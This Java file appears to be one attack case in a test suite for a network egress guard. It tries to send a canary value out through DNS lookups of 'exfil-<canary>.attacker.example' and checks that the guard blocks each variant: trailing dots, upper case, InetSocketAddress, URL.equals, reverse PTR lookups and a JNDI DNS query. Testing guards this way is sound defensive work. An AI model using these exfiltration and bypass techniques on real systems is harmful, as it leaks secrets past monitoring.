package dev.agentguard.apps.attacks;

import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.URL;
import java.util.Hashtable;
import javax.naming.directory.InitialDirContext;

/**
 * Smuggles data out through name lookups. The JVM's hosts file ({@code -Djdk.net.hosts.file}, so no real
 * resolver is ever asked) maps {@code exfil-<canary>.attacker.example} to 203.0.113.9, so a lookup that the
 * guard lets through resolves: that is the attack's success. Spellings: getByName, getAllByName, a trailing
 * dot, upper case, InetSocketAddress (which hides the failure: judged by whether it resolved), URL.equals
 * (which resolves both hosts). Reverse
 * lookups carry data in the address itself: the hosts file answers 203.0.113.7 and 2001:db8::c0de with
 * names that the policy lets resolve, so a PTR lookup that happens returns a name. JNDI's own DNS client
 * sends UDP to a "resolver" at the parent's denied UDP sink.
 */
public final class DnsExfilAttack implements Attack {
    public static void main(String[] args) {
        AttackSuite.runOne("DnsExfilAttack", new DnsExfilAttack());
    }

    @Override
    public void run(AttackTarget t, AttackReport report) {
        String name = "exfil-" + t.canary() + ".attacker.example";
        // Only the guard's own UnknownHostException counts: any other failure means a resolver was asked.
        String resolved = "the lookup left the guard";
        report.control("dns-granted-localhost", resolves("localhost"), "localhost resolves");
        report.guardMustDeny("dns-getbyname", () -> InetAddress.getByName(name), resolved);
        report.guardMustDeny("dns-getallbyname", () -> InetAddress.getAllByName(name), resolved);
        report.guardMustDeny("dns-trailing-dot", () -> InetAddress.getByName(name + "."), resolved);
        report.guardMustDeny("dns-upper-case", () -> InetAddress.getByName(name.toUpperCase(java.util.Locale.ROOT)), resolved);
        report.mustThrow("dns-inetsocketaddress", () -> {
            if (new InetSocketAddress(name, 80).isUnresolved()) {
                throw new java.net.UnknownHostException("unresolved");
            }
        }, resolved);
        report.mustThrow("dns-url-equals", () -> {
            if (!new URL("http://" + name + "/").equals(new URL("http://203.0.113.9/"))) {
                throw new java.net.UnknownHostException("URL.equals found no common address");
            }
        }, resolved);
        reverse(report, "dns-reverse-ipv4-gethostname", new byte[] {(byte) 203, 0, 113, 7}, false);
        reverse(report, "dns-reverse-ipv4-canonical", new byte[] {(byte) 203, 0, 113, 7}, true);
        byte[] v6 = new byte[16];
        v6[0] = 0x20;
        v6[1] = 0x01;
        v6[2] = 0x0d;
        v6[3] = (byte) 0xb8;
        v6[14] = (byte) 0xc0;
        v6[15] = (byte) 0xde;
        reverse(report, "dns-reverse-ipv6-gethostname", v6, false);
        report.mustThrow("dns-reverse-inetsocketaddress", () -> {
            String host = new InetSocketAddress(InetAddress.getByAddress(new byte[] {(byte) 203, 0, 113, 7}), 80)
                    .getHostName();
            if (!host.startsWith("ptr-answer")) {
                throw new java.net.UnknownHostException("no PTR answer: " + host);
            }
        }, "a reverse lookup was made (the PTR answer came back)");
        report.guardMustDeny("dns-jndi-udp-to-own-resolver", () -> {
            Hashtable<String, String> env = new Hashtable<>();
            env.put("java.naming.factory.initial", "com.sun.jndi.dns.DnsContextFactory");
            env.put("java.naming.provider.url", "dns://" + t.deniedAddress() + ":" + t.udpPort());
            env.put("com.sun.jndi.dns.timeout.initial", "200");
            env.put("com.sun.jndi.dns.timeout.retries", "1");
            new InitialDirContext(env).getAttributes(name, new String[] {"A"});
        }, "JNDI sent a DNS query to " + t.deniedAddress() + ":" + t.udpPort());
    }

    private static void reverse(AttackReport report, String attack, byte[] address, boolean canonical) {
        report.mustThrow(attack, () -> {
            InetAddress a = InetAddress.getByAddress(address);
            String host = canonical ? a.getCanonicalHostName() : a.getHostName();
            if (!host.startsWith("ptr-answer")) {
                throw new java.net.UnknownHostException("no PTR answer: " + host);
            }
        }, "a reverse lookup was made (the PTR answer came back)");
    }

    private static boolean resolves(String host) {
        try {
            InetAddress.getByName(host);
            return true;
        } catch (Exception e) {
            return false;
        }
    }
}
